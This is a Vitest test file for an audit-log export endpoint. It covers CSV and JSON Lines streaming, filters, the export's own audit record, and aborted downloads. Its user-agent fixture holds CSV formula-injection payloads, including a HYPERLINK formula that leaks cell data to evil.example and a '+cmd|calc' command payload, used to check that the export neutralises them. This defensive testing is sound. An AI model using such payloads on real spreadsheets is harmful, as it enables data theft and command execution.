// GET /audit-logs/export?format=csv|jsonl: a streamed download of every matching record (across many batches), the
// list's filters and scope, and an audit.export record of its own, written before the first byte.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../src/modules/audit/export.js';
import type { AuditRecordJson } from '../../src/modules/audit/schemas.js';
import { startApp, type TestApp } from '../support/app.js';
import { createOrg, createPartner, signedInPartnerMember, type SignedInMember } from '../support/fixtures.js';
import { download, jsonLines, listAll, parseCsv } from './helpers.js';
import { appendRecords } from './seed.js';

let t: TestApp;
let partnerId: string;
let orgId: string;
let admin: SignedInMember;
const COUNT = 2345; // more than two export batches of 1000
const T0 = Date.parse('2032-01-01T00:00:00.000Z');

/** Values a spreadsheet or a naive CSV writer would get wrong. */
const AWKWARD_AGENTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  'Mozilla/5.0, "quoted", with commas',
  'line one\r\nline two',
  '+cmd|calc',
  '@SUM(1)',
  '-2+3',
  'plain ümlaut ✓',
];

beforeAll(async () => {
  t = await startApp();
  partnerId = (await createPartner(t)).id;
  orgId = (await createOrg(t, partnerId)).id;
  admin = await signedInPartnerMember(t, partnerId);
  await appendRecords(t.deps.db, partnerId, COUNT, (i) => ({
    action: i % 10 === 0 ? 'export.special' : 'export.plain',
    result: i % 7 === 0 ? 'denied' : 'success',
    orgId: i % 3 === 0 ? orgId : null,
    actorEmail: `user${i % 13}@example.test`,
    resourceType: 'widget',
    resourceId: `w-${i}`,
    ip: i % 2 ? '192.0.2.1' : '2001:db8::1',
    userAgent: AWKWARD_AGENTS[i % AWKWARD_AGENTS.length],
    at: new Date(T0 + i * 1000),
    details: { i, note: i % 5 === 0 ? 'has "quotes", commas\nand a line break' : 'x', nested: { list: [i, 'a,b'] } },
  }));
});
afterAll(async () => t?.close());

/** What the CSV cell must read for a record's field: empty for null, JSON for details, a quote before a formula. */
function expectedCell(r: AuditRecordJson, column: (typeof CSV_COLUMNS)[number]): string {
  const v = r[column];
  const s = v === null ? '' : typeof v === 'string' ? v : JSON.stringify(v);
  return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
}

describe('CSV export', () => {
  it('streams every record in scope, newest first, as RFC 4180 CSV with a header, as an attachment', async () => {
    const res = await download(t, admin.session.accessToken, { format: 'csv' });
    expect(res.status, res.text.slice(0, 300)).toBe(200);
    expect(res.contentType).toBe('text/csv; charset=utf-8');
    expect(res.disposition).toMatch(/^attachment; filename="audit-logs-[0-9TZ-]+\.csv"$/);
    const [header, ...rows] = parseCsv(res.text);
    expect(header).toEqual([...CSV_COLUMNS]);
    const listed = await listAll(admin.api); // the export's own audit.export record is the newest of both
    expect(rows.length).toBe(listed.length);
    expect(rows.length).toBeGreaterThan(COUNT);
    rows.forEach((row, i) => {
      const want = CSV_COLUMNS.map((c) => expectedCell(listed[i]!, c));
      if (JSON.stringify(row) !== JSON.stringify(want)) expect({ i, row }).toEqual({ i, row: want });
    });
  });

  it('defuses spreadsheet formulas from attacker-chosen values, and keeps quotes, commas and line breaks intact', async () => {
    const res = await download(t, admin.session.accessToken, { format: 'csv', action: 'export.plain' });
    const rows = parseCsv(res.text).slice(1);
    const agents = new Set(rows.map((r) => r[CSV_COLUMNS.indexOf('userAgent')]));
    expect([...agents].sort()).toEqual(AWKWARD_AGENTS.map((a) => (/^[=+\-@]/.test(a) ? `'${a}` : a)).sort());
    for (const row of rows) {
      expect(row).toHaveLength(CSV_COLUMNS.length);
      const details = JSON.parse(row[CSV_COLUMNS.indexOf('details')]!);
      expect(details.nested.list[1]).toBe('a,b');
    }
  });
});

describe('JSON Lines export', () => {
  it('one AuditRecord per line, equal to what the list answers', async () => {
    const res = await download(t, admin.session.accessToken, { format: 'jsonl' });
    expect(res.status).toBe(200);
    expect(res.contentType).toBe('application/x-ndjson; charset=utf-8');
    expect(res.disposition).toMatch(/filename="audit-logs-[0-9TZ-]+\.jsonl"$/);
    expect(res.text.endsWith('\n')).toBe(true);
    const records = jsonLines(res.text);
    expect(records).toEqual(await listAll(admin.api));
  });
});

describe('filters and the audit.export record', () => {
  it("applies the list's filters; records audit.export with the format and the filters before streaming", async () => {
    const from = new Date(T0 + 1000 * 1000).toISOString();
    const to = new Date(T0 + 2000 * 1000).toISOString();
    const query = { format: 'jsonl', action: 'export.special', result: 'success', orgId, from, to };
    const res = await download(t, admin.session.accessToken, query);
    const records = jsonLines(res.text);
    const expected: number[] = [];
    for (let i = 1999; i >= 1000; i--) if (i % 10 === 0 && i % 7 !== 0 && i % 3 === 0) expected.push(i);
    expect(records.map((r) => r.details.i)).toEqual(expected);

    const [recorded, ...others] = await listAll(admin.api, {
      action: 'audit.export',
      actorUserId: admin.user.id,
      orgId,
    });
    expect(others).toEqual([]);
    expect(recorded).toMatchObject({
      result: 'success',
      actorEmail: admin.user.email,
      partnerId,
      orgId,
      resourceType: 'audit_log',
      ip: '127.0.0.1',
    });
    expect(recorded!.details).toEqual({
      format: 'jsonl',
      filters: { action: 'export.special', result: 'success', orgId, from, to },
    });
  });

  it('an unfiltered export is recorded with the partner and no organisation', async () => {
    const before = (await listAll(admin.api, { action: 'audit.export' })).length;
    await download(t, admin.session.accessToken, { format: 'csv', resourceId: 'w-7' });
    const after = await listAll(admin.api, { action: 'audit.export' });
    expect(after.length).toBe(before + 1);
    expect(after[0]).toMatchObject({
      partnerId,
      orgId: null,
      details: { format: 'csv', filters: { resourceId: 'w-7' } },
    });
  });

  it('refuses a missing or unknown format and malformed filters (400), before recording anything', async () => {
    const before = (await listAll(admin.api, { action: 'audit.export' })).length;
    for (const query of [{}, { format: 'xml' }, { format: 'csv', limit: '5' }, { format: 'csv', from: 'soon' }]) {
      const res = await download(t, admin.session.accessToken, query);
      expect(res.status, JSON.stringify(query)).toBe(400);
      expect(JSON.parse(res.text).code).toBe('validation_failed');
    }
    expect((await listAll(admin.api, { action: 'audit.export' })).length).toBe(before);
  });
});

describe('a client that goes away', () => {
  it('abandoning a download mid-stream leaves the service answering', async () => {
    const ctrl = new AbortController();
    const res = await fetch(`${t.baseUrl}/api/v1/audit-logs/export?format=jsonl`, {
      headers: { authorization: `Bearer ${admin.session.accessToken}` },
      signal: ctrl.signal,
    });
    const reader = res.body!.getReader();
    const { value } = await reader.read();
    expect(value!.length).toBeGreaterThan(0);
    ctrl.abort();
    await reader.closed.catch(() => {});
    await new Promise((r) => setTimeout(r, 100));
    const again = await download(t, admin.session.accessToken, { format: 'jsonl', action: 'export.special' });
    expect(again.status).toBe(200);
    expect(jsonLines(again.text)).toHaveLength(Math.ceil(COUNT / 10));
    expect(t.logs()).not.toMatch(/"level":50/);
  });
});
